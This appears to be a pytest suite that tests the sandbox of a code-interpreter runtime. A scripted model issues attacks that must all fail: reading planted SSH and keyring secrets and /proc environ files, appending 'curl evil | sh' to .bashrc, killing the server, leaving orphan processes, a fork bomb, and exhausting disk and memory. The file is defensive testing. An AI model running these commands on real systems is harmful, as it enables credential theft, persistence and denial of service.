"""Attacks from inside a code-interpreter cell, through the real runtime: each must fail.

A real server process (with a planted HOME full of secrets), the scripted model asking
for the attack code, a real bubblewrap-sandboxed kernel. After each attack the runtime
must still answer and run code in another thread.

Secrets are searched for with patterns like ``TOP[S]ECRET`` inside the attack code, so
a traceback that quotes the code never contains the secret itself: the secret shows up
in the logs only if the attack really read it.

Run as root this file also re-runs itself as an unprivileged user (created with
``useradd``), so the sandbox is shown to hold for both. That run uses a world-readable copy
of the package and tests, so a checkout in a private folder (a clone in ``mktemp -d``) works.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import psutil
import pytest

from playground.runtime.code_interpreter import Mode, choose_isolation
from tests.helpers.runtime_process import RuntimeServer, http_client, start_runtime
from tests.helpers.scripted_llm import ScriptedLLM, code, text

pytestmark = pytest.mark.skipif(
    choose_isolation(allow_unsafe=False).mode is not Mode.SANDBOXED,
    reason=f"no sandbox here: {choose_isolation(allow_unsafe=False).description}",
)

CHILD_FLAG = "PLAYGROUND_ESCAPE_SUITE_CHILD"
TEST_USER = "pgsandbox"


@dataclass
class Rig:
    server: RuntimeServer
    llm: ScriptedLLM
    http: httpx.Client
    home: Path
    assistant_id: str
    socket_path: Path

    def run(self, source: str, thread_id: str | None = None) -> tuple[str, str, dict[str, Any]]:
        """Run ``source`` as a code_interpreter call; returns (thread id, logs, run)."""
        assert self.llm.pending == 0, "an earlier run did not use its scripted replies"
        self.llm.queue(code(source), text("done"))
        if thread_id is None:
            thread_id = self.http.post("/threads", json={}).json()["id"]
        run = self.http.post(
            f"/threads/{thread_id}/runs", json={"assistant_id": self.assistant_id}
        ).json()
        deadline = time.monotonic() + 120
        while run["status"] in ("queued", "in_progress", "cancelling"):
            assert time.monotonic() < deadline, "run never finished"
            time.sleep(0.1)
            run = self.http.get(f"/threads/{thread_id}/runs/{run['id']}").json()
        steps = self.http.get(f"/threads/{thread_id}/runs/{run['id']}/steps").json()["data"]
        logs = ""
        for step in steps:
            if step["type"] != "tool_calls":
                continue
            for call in step["step_details"]["tool_calls"]:
                for out in call["code_interpreter"]["outputs"]:
                    logs += out.get("logs", "")
        return thread_id, logs, run

    def still_serving(self) -> None:
        """The server is alive and another thread can still run code."""
        assert self.server.process.poll() is None, self.server.stderr()[-2000:]
        _, logs, run = self.run("print(6 * 7)")
        assert run["status"] == "completed" and logs == "42\n", logs


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedLLM]:
    with ScriptedLLM() as scripted:
        yield scripted


@pytest.fixture(scope="module")
def rig(llm: ScriptedLLM) -> Iterator[Rig]:
    # A short base path, so kernel sockets live in the data folder (Unix socket paths are
    # limited to ~100 bytes; pytest's own tmp paths are longer).
    base = Path(tempfile.mkdtemp(prefix="pge-"))
    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("TOPSECRETsshkey\n")
    keyring = home / ".local" / "share" / "python_keyring"
    keyring.mkdir(parents=True)
    (keyring / "keyring_pass.cfg").write_text("[playground]\napi_key = TOPSECRETkeyring\n")
    (home / ".bashrc").write_text("# untouched\n")
    sock_dir = Path(f"/tmp/pg-escape-{secrets.token_hex(4)}")  # a Unix socket under /tmp
    sock_dir.mkdir()
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(str(sock_dir / "host.sock"))
    unix.listen(5)
    env = {
        "HOME": str(home),
        "XDG_DATA_HOME": str(home / ".local" / "share"),
        "PLAYGROUND_TEST_SECRET": "TOPSECRETenviron",
    }
    try:
        with start_runtime(base / "data", model_base_url=llm.base_url, env=env) as server:
            with http_client(server) as http:
                http.headers["OpenAI-Beta"] = "assistants=v2"
                assistant = http.post(
                    "/assistants",
                    json={"model": "gpt-4o", "tools": [{"type": "code_interpreter"}]},
                ).json()
                yield Rig(server, llm, http, home, assistant["id"], sock_dir / "host.sock")
    finally:
        unix.close()
        shutil.rmtree(sock_dir, ignore_errors=True)
        shutil.rmtree(base, ignore_errors=True)


def _no_secret(logs: str) -> None:
    assert "TOPSECRET" not in logs, logs


def test_the_server_runs_sandboxed(rig: Rig) -> None:
    line = next(x for x in rig.server.stdout_lines if x.startswith("code interpreter: "))
    assert line.startswith("code interpreter: sandboxed"), line
    _, logs, _ = rig.run("import os\nprint(os.getcwd(), os.getuid(), os.getpid())")
    cwd, _uid, pid = logs.split()
    assert cwd == "/mnt/data" and int(pid) < 10  # its own PID namespace


def test_data_folder_and_databases_are_private(rig: Rig) -> None:
    data = rig.server.data_dir
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert stat.S_IMODE((data / "code_interpreter").stat().st_mode) == 0o700
    for name in ("runtime.sqlite3", "search.sqlite3"):
        if (data / name).exists():
            assert stat.S_IMODE((data / name).stat().st_mode) == 0o600, name


def test_cannot_read_ssh_key_or_keyring(rig: Rig) -> None:
    source = (
        "import glob, os, re\n"
        f"paths = [{str(rig.home / '.ssh' / 'id_ed25519')!r}, os.path.expanduser('~/.ssh/id_ed25519')]\n"
        f"paths += glob.glob({str(rig.home)!r} + '/.local/share/**/*', recursive=True)\n"
        "for p in paths:\n"
        "    try:\n"
        "        print(p, re.findall(r'TOP[S]ECRET\\w+', open(p).read()))\n"
        "    except Exception as exc:\n"
        "        print(p, type(exc).__name__)\n"
    )
    _, logs, _ = rig.run(source)
    _no_secret(logs)
    assert "FileNotFoundError" in logs
    rig.still_serving()


def test_cannot_read_the_runtime_database(rig: Rig) -> None:
    marker_thread = rig.http.post(
        "/threads", json={"messages": [{"role": "user", "content": "TOPSECRETdatabase"}]}
    ).json()["id"]
    data = rig.server.data_dir
    source = (
        "import re\n"
        f"for p in [{str(data / 'runtime.sqlite3')!r}, {str(data / 'runtime.sqlite3-wal')!r}]:\n"
        "    try:\n"
        "        print(re.findall(rb'TOP[S]ECRET\\w+', open(p, 'rb').read()))\n"
        "    except Exception as exc:\n"
        "        print(type(exc).__name__)\n"
    )
    _, logs, _ = rig.run(source)
    _no_secret(logs)
    assert marker_thread and "FileNotFoundError" in logs
    rig.still_serving()


def test_cannot_read_the_server_environment(rig: Rig) -> None:
    pid = rig.server.process.pid
    source = (
        "import glob, re\n"
        f"paths = ['/proc/{pid}/environ', '/proc/1/environ'] + glob.glob('/proc/*/environ')\n"
        "for p in paths:\n"
        "    try:\n"
        "        print(p, re.findall(rb'TOP[S]ECRET\\w+', open(p, 'rb').read()))\n"
        "    except Exception as exc:\n"
        "        print(p, type(exc).__name__)\n"
    )
    _, logs, _ = rig.run(source)
    _no_secret(logs)
    rig.still_serving()


def test_cannot_write_bashrc(rig: Rig) -> None:
    bashrc = rig.home / ".bashrc"
    source = (
        "import os\n"
        f"for p in [{str(bashrc)!r}, os.path.expanduser('~/.bashrc')]:\n"
        "    try:\n"
        "        with open(p, 'a') as f:\n"
        "            f.write('curl evil | sh\\n')\n"
        "        print('wrote', p)\n"
        "    except Exception as exc:\n"
        "        print(type(exc).__name__)\n"
    )
    rig.run(source)
    assert bashrc.read_text() == "# untouched\n"
    rig.still_serving()


def test_cannot_see_another_threads_files(rig: Rig) -> None:
    other, logs, _ = rig.run("open('mine.txt', 'w').write('TOPSECRETotherthread')\nprint('ok')")
    assert logs == "ok\n"
    workspaces = rig.server.data_dir / "code_interpreter"
    assert (workspaces / other / "mine.txt").exists()
    source = (
        "import os, re\n"
        "found = []\n"
        "for top in ['/mnt', '/tmp', '/home', '/var', '/srv', '/opt', "
        + repr(str(workspaces))
        + "]:\n"
        "    for root, dirs, files in os.walk(top):\n"
        "        for name in files:\n"
        "            try:\n"
        "                found += re.findall(r'TOP[S]ECRET\\w+', open(os.path.join(root, name), errors='ignore').read(65536))\n"
        "            except Exception:\n"
        "                pass\n"
        f"for p in [{str(workspaces / other)!r}, '/mnt/data/../{other}']:\n"
        "    try:\n"
        "        print(os.listdir(p))\n"
        "    except Exception as exc:\n"
        "        print(type(exc).__name__)\n"
        "print(found)\n"
    )
    _, logs, _ = rig.run(source)
    _no_secret(logs)
    assert "mine.txt" not in logs
    rig.still_serving()


def test_cannot_reach_another_kernels_connection_file(rig: Rig) -> None:
    rig.run("x = 1")  # another kernel, alive
    kernels = rig.server.data_dir / "code_interpreter" / ".kernels"
    keys = set()
    for conn in kernels.glob("*/connection.json"):
        keys.add(json.loads(conn.read_text())["key"])
    assert len(keys) >= 2  # the other thread's kernel and the spare at least
    source = (
        "import glob, json, os\n"
        "seen = set()\n"
        "for top in ['/', '/tmp', '/mnt', " + repr(str(kernels)) + "]:\n"
        "    for root, dirs, files in os.walk(top):\n"
        "        dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'usr')]\n"
        "        if 'connection.json' in files:\n"
        "            seen.add(json.load(open(os.path.join(root, 'connection.json')))['key'])\n"
        "print(sorted(seen))\n"
    )
    _, logs, _ = rig.run(source)
    shown = {key for key in keys if key in logs}
    assert len(shown) <= 1, logs  # only its own
    rig.still_serving()


def test_cannot_connect_to_the_server_or_host_sockets(rig: Rig) -> None:
    port = int(rig.server.base_url.rsplit(":", 1)[1])
    source = (
        "import socket\n"
        "targets = [(socket.AF_INET, ('127.0.0.1', "
        + str(port)
        + ")), (socket.AF_UNIX, "
        + repr(str(rig.socket_path))
        + ")]\n"
        "for family, address in targets:\n"
        "    s = socket.socket(family, socket.SOCK_STREAM)\n"
        "    s.settimeout(2)\n"
        "    try:\n"
        "        s.connect(address)\n"
        "        print('CONN' + 'ECTED', address)\n"
        "    except Exception as exc:\n"
        "        print(type(exc).__name__)\n"
        "try:\n"
        "    import urllib.request\n"
        "    urllib.request.urlopen('http://example.com', timeout=3)\n"
        "    print('CONN' + 'ECTED internet')\n"
        "except Exception as exc:\n"
        "    print(type(exc).__name__)\n"
    )
    _, logs, _ = rig.run(source)
    assert "CONNECTED" not in logs, logs
    rig.still_serving()


def test_cannot_kill_the_server(rig: Rig) -> None:
    pid = rig.server.process.pid
    source = (
        "import os, signal\n"
        f"for target in [{pid}, os.getppid(), 1]:\n"
        "    try:\n"
        "        os.kill(target, signal.SIGKILL)\n"
        "    except Exception as exc:\n"
        "        print(type(exc).__name__)\n"
    )
    rig.run(source)
    assert rig.server.process.poll() is None
    rig.still_serving()


def test_no_process_survives_its_kernel(rig: Rig) -> None:
    marker = str(900000 + secrets.randbelow(99999))
    source = (
        "import subprocess\n"
        f"subprocess.Popen(['sleep', '{marker}'], start_new_session=True)\n"
        "import os\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        f"    os.execvp('sleep', ['sleep', '{marker}1'])\n"
        "print('spawned')\n"
    )
    thread_id, logs, _ = rig.run(source)
    assert "spawned" in logs

    def sleepers() -> list[int]:
        found = []
        for proc in psutil.process_iter(["cmdline"]):
            if marker in " ".join(proc.info["cmdline"] or []):
                found.append(proc.pid)
        return found

    assert sleepers(), "the attack did not even start its processes"
    assert rig.http.delete(f"/threads/{thread_id}").status_code == 200
    deadline = time.monotonic() + 20
    while sleepers():
        assert time.monotonic() < deadline, f"processes outlived the kernel: {sleepers()}"
        time.sleep(0.1)
    assert not (rig.server.data_dir / "code_interpreter" / thread_id).exists()
    rig.still_serving()


def test_fork_bomb_is_capped(rig: Rig) -> None:
    source = (
        "import os, time\n"
        "children = 0\n"
        "try:\n"
        "    while True:\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(30)\n"
        "            os._exit(0)\n"
        "        children += 1\n"
        "except OSError as exc:\n"
        "    print('stopped after', children, type(exc).__name__)\n"
        "    raise\n"
    )
    _, logs, _ = rig.run(source)
    assert "stopped after" in logs, logs
    assert int(logs.split("stopped after")[1].split()[0]) < 100
    assert "Process limit reached" in logs
    rig.still_serving()


def test_filling_mnt_data_past_the_quota_fails_plainly(rig: Rig) -> None:
    source = (
        "import os\n"
        "for i in range(3):\n"
        "    with open(f'big{i}', 'wb') as f:\n"
        "        os.posix_fallocate(f.fileno(), 0, 450 * 1024 * 1024)\n"
        "print('written')\n"
    )
    thread_id, logs, _run = rig.run(source)
    assert "Disk limit reached" in logs, logs
    folder = rig.server.data_dir / "code_interpreter" / thread_id
    assert not list(folder.glob("big*"))
    _, again, _ = rig.run("import os\nprint(sorted(os.listdir()))", thread_id)
    assert "fresh kernel" in again and again.endswith("[]\n")
    rig.still_serving()


def test_allocating_past_the_memory_limit_fails_plainly(rig: Rig) -> None:
    _, logs, _ = rig.run("block = bytearray(3 * 1024 ** 3)")
    assert "Memory limit reached" in logs, logs
    rig.still_serving()


@pytest.mark.timeout(1000)  # the whole suite again, as another user
def test_escape_suite_as_an_unprivileged_user() -> None:
    """As root, run this whole file again as a normal user (created here if needed)."""
    if os.environ.get(CHILD_FLAG):
        pytest.skip("this is the unprivileged run")
    if os.geteuid() != 0:
        pytest.skip("already running as an unprivileged user: the tests above are that run")
    isolation = choose_isolation(allow_unsafe=False)
    assert isolation.bwrap is not None
    if subprocess.run(["id", TEST_USER], capture_output=True, check=False).returncode != 0:
        subprocess.run(
            ["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", TEST_USER],
            check=True,
        )
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("setpriv (util-linux) is needed to switch to the test user")
    user = _User.named(TEST_USER)
    # pytest's own tmp_path sits in a 0700 folder of root's: use a fresh one the user owns.
    tmp_path = Path(tempfile.mkdtemp(prefix="pg-escape-user-"))
    try:
        os.chmod(tmp_path, 0o755)
        shutil.chown(tmp_path, TEST_USER)
        closed = user.first_closed(tmp_path)
        if closed is not None:
            pytest.skip(
                f"{TEST_USER} cannot enter {closed}, which holds the temp folder {tmp_path}"
            )
        view = _interpreter_view(isolation.bwrap.path, user, keep_open=tmp_path)
        # The checkout may sit in a folder the user cannot enter (a clone in `mktemp -d`):
        # the user runs a readable copy of the code and tests instead.
        this_file = Path(__file__).resolve()
        repo = this_file.parents[2]
        staged = _stage_checkout(repo, tmp_path / "checkout")
        home = tmp_path / "home"
        home.mkdir()
        shutil.chown(home, TEST_USER)
        command = [
            *view,
            "--",
            setpriv,
            f"--reuid={TEST_USER}",
            f"--regid={TEST_USER}",
            "--clear-groups",
            "--",
            sys.executable,
            "-m",
            "pytest",
            str(staged / this_file.relative_to(repo)),
            "-q",
            "-p",
            "no:cacheprovider",
            f"--basetemp={tmp_path / 'base'}",
        ]
        env = {
            "PATH": os.environ.get("PATH", os.defpath),
            "HOME": str(home),
            "PYTHONPATH": str(staged),
            "PYTHONDONTWRITEBYTECODE": "1",
            CHILD_FLAG: "1",
        }
        done = subprocess.run(
            command, cwd=staged, env=env, capture_output=True, text=True, timeout=900, check=False
        )
    finally:
        shutil.rmtree(tmp_path, ignore_errors=True)
    tail = (done.stdout + done.stderr)[-4000:]
    assert done.returncode == 0, tail
    summary = re.search(r"(\d+) passed(?:, (\d+) skipped)?", done.stdout)
    assert summary is not None, tail
    # Every attack ran (and failed) as the user; only this very test skips itself.
    assert int(summary[1]) >= 13 and int(summary[2] or 0) == 1, tail


@dataclass(frozen=True)
class _User:
    """Who the unprivileged run is, for permission checks done as root."""

    uid: int
    gid: int

    @classmethod
    def named(cls, name: str) -> _User:
        import pwd

        entry = pwd.getpwnam(name)
        return cls(entry.pw_uid, entry.pw_gid)

    def may(self, path: Path, owner_bit: int, group_bit: int, other_bit: int) -> bool:
        """Whether the mode bits grant this user the access (setpriv clears extra groups)."""
        info = path.stat()
        if info.st_uid == self.uid:
            return bool(info.st_mode & owner_bit)
        if info.st_gid == self.gid:
            return bool(info.st_mode & group_bit)
        return bool(info.st_mode & other_bit)

    def first_closed(self, path: Path, below: Path | None = None) -> Path | None:
        """The outermost folder on the way to ``path`` (itself included) it cannot enter.

        ``below``: start under this folder (it is masked and its entry bound back).
        """
        for folder in [*reversed(path.parents), path]:
            if below is not None and (folder == below or below.is_relative_to(folder)):
                continue
            if folder.is_dir() and not self.may(folder, stat.S_IXUSR, stat.S_IXGRP, stat.S_IXOTH):
                return folder
        return None


def _interpreter_view(bwrap: str, user: _User, keep_open: Path) -> list[str]:
    """A bwrap prefix that lets ``user`` reach this interpreter and nothing more of ours.

    The interpreter may live in a folder the user cannot enter (pyenv under root's 0700
    home, a venv inside a private clone): in a private mount namespace that folder is
    hidden behind an empty tmpfs, and only the entry in it that holds the interpreter is
    bound back, read-only — never all of it. (An entry, not the deeper folder itself:
    bwrap would make the missing folders between them 0700.) When the user still cannot
    get through, skip and name the folder in the way.
    """
    folders = {
        Path(p)
        for p in (sys.prefix, sys.base_prefix, os.path.dirname(os.path.realpath(sys.executable)))
    }
    masks: set[Path] = set()
    binds: set[Path] = set()
    for folder in sorted(folders):
        closed = user.first_closed(folder.parent)
        if closed is not None:
            if keep_open.is_relative_to(closed):
                pytest.skip(
                    f"{TEST_USER} cannot enter {closed}, which holds both the interpreter "
                    f"{folder} and the temp folder {keep_open}"
                )
            masks.add(closed)
            entry = closed / folder.relative_to(closed).parts[0]
            binds.add(entry)
            in_the_way = user.first_closed(folder, below=closed)
        else:
            in_the_way = user.first_closed(folder)
        if in_the_way is not None or not user.may(folder, stat.S_IRUSR, stat.S_IRGRP, stat.S_IROTH):
            blocked = in_the_way or folder
            pytest.skip(
                f"{TEST_USER} cannot reach the interpreter folder {folder}: {blocked} is "
                f"{stat.filemode(blocked.stat().st_mode)} {blocked.owner()}:{blocked.group()}"
            )
    view = [bwrap, "--dev-bind", "/", "/"]
    for mask in sorted(masks):
        view += ["--tmpfs", str(mask)]
    for entry in sorted(binds):
        view += ["--ro-bind", str(entry), str(entry)]
    return view


def _stage_checkout(repo: Path, target: Path) -> Path:
    """Copy what the unprivileged run imports (package, tests, pytest config), world-readable."""
    target.mkdir()
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc")
    for name in ("playground", "tests"):
        shutil.copytree(repo / name, target / name, ignore=ignore)
    shutil.copy2(repo / "pyproject.toml", target / "pyproject.toml")
    for root, _dirs, files in os.walk(target):
        os.chmod(root, 0o755)
        for name in files:
            os.chmod(os.path.join(root, name), 0o644)
    return target
